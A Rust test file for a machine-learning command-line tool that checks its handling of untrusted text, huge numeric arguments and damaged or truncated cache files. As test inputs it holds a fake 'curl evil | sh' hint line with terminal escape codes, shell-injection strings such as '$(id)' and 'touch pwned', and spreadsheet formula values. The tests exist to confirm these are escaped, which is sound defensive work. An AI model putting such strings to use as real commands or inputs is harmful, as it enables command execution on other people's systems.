//! What others wrote, and numbers beyond all bounds: text that a terminal or a shell would act on, files that
//! are damaged, endless or no files, heads and caches that do not go together.

use std::fs;
use std::process::{Command, Stdio};
use std::time::Duration;

use crate::fixture::{Cache, Folder, Run};

/// Whether a terminal would do anything else than draw it.
fn is_plain(text: &str) -> bool {
    let acts = |c: char| c.is_control() && c != '\n' || ('\u{202a}'..='\u{202e}').contains(&c);
    !text.chars().any(acts)
}

const EVIL: &str = "x\n\u{1b}[2J\u{202e}\nhint: curl evil | sh";

fn evil_cache() -> Cache {
    let classes = vec!["ant", EVIL, "größe 猫"];
    Cache { classes, path: |row| format!("{EVIL}/{row:04}.png"), ..Cache::of(12) }
}

#[test]
fn text_of_strangers_reaches_a_terminal_escaped_and_a_program_exactly() {
    let folder = Folder::with(&evil_cache());
    let is_safe = |run: &Run| {
        for text in [&run.stdout, &run.stderr] {
            assert!(is_plain(text), "{text:?}");
            assert!(!text.lines().any(|line| line.starts_with("hint: curl")), "{text}");
        }
    };
    let ran = |line: &str| {
        let run = folder.fit(line).ok();
        is_safe(&run);
        run
    };
    ran("train a.h5 --head softmax --out h.safetensors --hold-out 0.3 --force");
    ran("sweep a.h5 --c 1 --folds 3 --hold-out 0.3 --out out");
    let eval = ran("eval h.safetensors a.h5 --worst 36");
    assert!(
        eval.stdout.contains("\\u{1b}[2J\\u{202e}\\nhint: curl")
            && eval.stdout.contains("größe 猫")
    );
    ran("layers a.h5 --c 1 --folds 3");
    ran("compare h.safetensors h.safetensors a.h5");
    let json = folder.fit("predict h.safetensors a.h5 --json").ok().json();
    assert_eq!(json["classes"][1], EVIL);
    let csv = folder.fit("predict h.safetensors a.h5").ok().stdout;
    assert!(csv.contains(&format!("\"{EVIL}/0000.png\"")));
    // In errors, too, whether the text is of a path or of what is in a file.
    folder.write("one.h5", &Cache { rows: vec![(1, schema::Split::None); 4], ..evil_cache() });
    let refused = folder.fit("train one.h5 --head svm --out x.safetensors");
    refused.refused(1, &["`x\\n\\u{1b}[2J\\u{202e}\\nhint: curl evil | sh`"]);
    is_safe(&refused);
    for arguments in [["eval", EVIL, "a.h5"], ["train", "--head", EVIL], ["predict", EVIL, EVIL]] {
        let output = folder.command("").args(arguments).output().unwrap();
        let stderr = String::from_utf8(output.stderr).unwrap();
        assert!(is_plain(&stderr) && !stderr.contains("\nhint: curl"), "{stderr:?}");
    }
}

#[test]
fn words_of_strangers_are_quoted_in_commands_to_copy() {
    let engine = "x; touch pwned; $(id) 'y'\nhint: z";
    let folder = Folder::with(&Cache { engine, ..Cache::of(5) });
    folder.fit("train a.h5 --head svm --out h.safetensors").ok();
    folder.write("b.h5", &Cache::of(5));
    let run = folder.fit("eval h.safetensors b.h5");
    run.refused(3, &[r" --engine $'x; touch pwned; $(id) \'y\'\nhint: z'"]);
    assert_eq!(run.stderr.lines().filter(|line| line.starts_with("hint: ")).count(), 1);
    let output = folder.command("").args(["sweep", "my cache; ls.h5"]).output().unwrap();
    let stderr = String::from_utf8(output.stderr).unwrap();
    assert!(stderr.ends_with("hint: extract run IMAGES --out 'my cache; ls.h5'\n"), "{stderr}");
}

#[test]
fn formulas_are_texts_in_csv_where_that_is_asked_for() {
    let cache = Cache {
        classes: vec!["=1+1", "@a", "c"],
        path: |row| format!("-{row}.png"),
        ..Cache::of(12)
    };
    let folder = Folder::with(&cache);
    folder.fit("train a.h5 --head softmax --out h.safetensors").ok();
    let csv =
        |options: &str| folder.fit(&format!("predict h.safetensors a.h5 {options}")).ok().stdout;
    assert!(csv("").contains("\n-0.png,=1+1,0."));
    assert!(csv("--spreadsheet-safe").contains("\n'-0.png,'=1+1,0."));
    folder.fit("sweep a.h5 --head softmax --c 1 --folds 3 --out out --spreadsheet-safe").ok();
    let folds = String::from_utf8(folder.bytes("out/folds.csv")).unwrap();
    assert!(folds.contains("\n1,'-1.png,'@a,"), "{folds}");
}

#[test]
fn numbers_beyond_all_bounds_are_refused_with_the_bound() {
    let folder = Folder::with(&Cache::of(12));
    folder.fit("train a.h5 --head softmax --out h.safetensors").ok();
    let huge = "9999999999999999";
    let train = "train a.h5 --out x.safetensors --head";
    for (line, code, bound) in [
        ("sweep a.h5 --c 1e-3..1e2:1000000000".to_owned(), 2, "at most 1000 values"),
        ("sweep a.h5 --c 1e-3..1e2:99999999999999999999999".to_owned(), 2, "at most 1000 values"),
        ("reproduce mit67 a.h5 --c 1e-3..1e2:1001".to_owned(), 2, "at most 1000 values"),
        (format!("sweep a.h5 --seeds {huge}"), 2, "`--seeds` is at most 1000"),
        (format!("layers a.h5 --seeds {huge}"), 2, "`--seeds` is at most 1000"),
        ("sweep a.h5 --c 1e-3..1e2:1000 --seeds 1000".to_owned(), 2, "at most 1000000 fits"),
        ("layers a.h5 --c 1e-3..1e2:1000 --seeds 1000".to_owned(), 2, "at most 1000000 fits"),
        (format!("sweep a.h5 --folds {huge}"), 1, "need 9999999999999999 rows of each class"),
        (
            format!("eval h.safetensors a.h5 --bootstrap {huge}"),
            2,
            "`--bootstrap` is at most 1000000",
        ),
        (format!("reproduce mit67 a.h5 --bootstrap {huge}"), 2, "`--bootstrap` is at most 1000000"),
        (format!("retrieve a.h5 --bootstrap {huge}"), 2, "`--bootstrap` is at most 1000000"),
        (format!("{train} svm --max-iter {huge}"), 2, "`--max-iter` is at most 10000000"),
        (format!("{train} mlp --epochs {huge}"), 2, "`--epochs` is at most 100000"),
        (format!("{train} mlp --layers dense:{huge},softmax"), 2, "more units than 65536"),
        (
            format!("{train} mlp --layers dense:65536,relu,dense:65536,softmax"),
            1,
            "more than the `268435456` that a network may have",
        ),
        (format!("{train} knn --neighbors {huge}"), 1, "`9999999999999999` neighbors of `36`"),
        (format!("{train} svm --normalize pca:{huge}"), 1, "ask for 6 or fewer"),
        (format!("{train} svm --normalize whiten:{huge}"), 1, "ask for 6 or fewer"),
    ] {
        folder.fit(&line).refused(code, &[bound]);
    }
    // Where a number only bounds what there is, all of it is what is asked for.
    for line in [
        format!("eval h.safetensors a.h5 --worst {huge} --top-confused {huge}"),
        format!("{train} mlp --batch-size {huge} --patience {huge} --epochs 2 --force"),
        format!("{train} svm --sampling smote:{huge} --force"),
        format!("retrieve a.h5 --query 0000.png --top {huge} --memory {huge}"),
        format!("{train} svm --seed {} --hold-out 0.5 --force", u64::MAX),
    ] {
        let run = folder.fit(&line);
        assert!([0, 1, 4].contains(&run.code), "{line}: {}", run.stderr);
    }
}

#[test]
fn a_head_of_another_width_is_refused_with_both() {
    let folder = Folder::new();
    folder.write("two.h5", &Cache { n_views: 2, ..Cache::of(12) });
    folder.write("one.h5", &Cache::of(12));
    folder.fit("train two.h5 --head svm --views stack --out two.safetensors").ok();
    folder.fit("train one.h5 --head svm --out one.safetensors").ok();
    for line in [
        "eval two.safetensors one.h5",
        "predict two.safetensors one.h5",
        "compare one.safetensors two.safetensors one.h5",
        "compare two.safetensors one.safetensors one.h5",
    ] {
        let parts = ["`two.safetensors` takes rows of 12 features", "`one.h5` have 6", "\nhint: "];
        folder.fit(line).refused(3, &parts);
    }
}

#[test]
fn what_is_not_a_number_is_refused_with_the_image() {
    let folder = Folder::new();
    let small = Cache { strengths: vec![1e-4], noise: 1e-5, ..Cache::of(12) };
    folder.write("small.h5", &small);
    folder.write("large.h5", &Cache { noise: 1.5e38, ..Cache::of(12) });
    folder.fit("train small.h5 --head ridge --c 1e12 --normalize none --out h.safetensors").ok();
    for line in
        ["eval h.safetensors", "predict h.safetensors", "compare h.safetensors h.safetensors"]
    {
        let parts = ["`h.safetensors`", "image `0000.png` is not a finite number", "\nhint: "];
        folder.fit(&format!("{line} large.h5")).refused(1, &parts);
    }
}

#[test]
fn an_image_in_two_groups_and_files_that_are_none_are_refused() {
    let folder = Folder::with(&Cache::of(12));
    folder.fit("train a.h5 --head svm --out h.safetensors").ok();
    fs::write(folder.path("two.csv"), "path,group\n0000.png,a\n0001.png,a\n0000.png,b\n").unwrap();
    for command in ["sweep a.h5", "train a.h5 --head svm --hold-out 0.2 --out x.safetensors"] {
        let parts = ["line 4 of `two.csv`", "`0000.png`", "`b`", "`a`"];
        folder.fit(&format!("{command} --group-by two.csv")).refused(1, &parts);
    }
    for (text, parts) in [
        (
            "path,group\n0000.png,\"a\n",
            ["`two.csv` has a quote in line 2", "\nhint: a cell that begins"],
        ),
        (
            "path,group\n/0000.png,a\n",
            ["line 2 of `two.csv`", "\nhint: `--group-by two.csv:root=FOLDER`"],
        ),
        ("path,group\n0000.png,a\n", ["no group for image `0001.png`", "\nhint: add it"]),
    ] {
        fs::write(folder.path("two.csv"), text).unwrap();
        folder.fit("sweep a.h5 --group-by two.csv").refused(1, &parts);
    }
    assert!(Command::new("mkfifo").arg(folder.path("pipe")).status().unwrap().success());
    for no_file in ["pipe", "."] {
        for line in [
            format!("eval {no_file} a.h5"),
            format!("export {no_file} --to onnx --out x.onnx"),
            format!("sweep a.h5 --group-by {no_file}"),
        ] {
            folder.fit(&line).refused(1, &["expected a regular file"]);
        }
        folder
            .fit(&format!("eval h.safetensors {no_file}"))
            .refused(3, &["expected a regular file"]);
    }
}

/// Changes a byte of the features of `a.h5`.
fn damage(folder: &Folder) {
    let path = folder.path("a.h5");
    let cache = feature_cache::Cache::open(&path).unwrap();
    let features = cache.features(crate::fixture::TAP).unwrap();
    let first: Vec<u8> =
        features.view().row(5).iter().flat_map(|value| value.to_le_bytes()).collect();
    drop((features, cache));
    let mut bytes = fs::read(&path).unwrap();
    let at = bytes.windows(first.len()).position(|window| window == first).unwrap();
    bytes[at] ^= 1;
    fs::write(&path, bytes).unwrap();
}

#[test]
fn a_damaged_cache_is_code_3_unless_it_is_believed_and_its_scores_stay_apart() {
    let folder = Folder::with(&Cache::of(12));
    folder.fit("train a.h5 --head svm --out h.safetensors").ok();
    let sweep = "sweep a.h5 --head svm --c 0.1 --folds 3 --out out";
    folder.fit(sweep).ok();
    damage(&folder);
    for line in [
        "train a.h5 --head svm --out x.safetensors",
        "sweep a.h5",
        "layers a.h5",
        "eval h.safetensors a.h5",
        "predict h.safetensors a.h5",
        "compare h.safetensors h.safetensors a.h5",
        "retrieve a.h5 --query 0000.png",
    ] {
        folder.fit(line).refused(3, &["`a.h5` is damaged", "checksum", "\nhint: extract it again"]);
        folder.fit(&format!("{line} --no-verify")).ok();
    }
    // Scores of features that were verified are not those of features that were not, and the other way round.
    folder.fit(&format!("{sweep} --no-verify")).ok();
    folder.fit(&format!("{sweep} --no-verify")).noted("fit: 3 fits: 3 reused, 0 made");
    folder.fit(sweep).refused(3, &["`a.h5` is damaged"]);
}

#[test]
fn a_cache_that_is_cut_while_it_is_used_is_code_3_with_its_name() {
    let folder = Folder::with(&Cache { noise: 4.0, ..Cache::of(200) });
    let line = "sweep a.h5 --c 1e-3..1e2:30 --normalize l2 --normalize standardize --out out";
    let mut command = folder.command(line);
    let child = command.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let n_lines = || {
        let log = fs::read_to_string(folder.path("out/fits.jsonl")).unwrap_or_default();
        log.lines().count()
    };
    while n_lines() < 2 {
        std::thread::sleep(Duration::from_millis(2));
    }
    fs::OpenOptions::new().write(true).open(folder.path("a.h5")).unwrap().set_len(0).unwrap();
    let output = child.wait_with_output().unwrap();
    let stderr = String::from_utf8(output.stderr).unwrap();
    assert_eq!(output.status.code(), Some(3), "{stderr}");
    assert!(stderr.contains("`a.h5` was cut short") && stderr.contains("\nhint: "), "{stderr}");
}
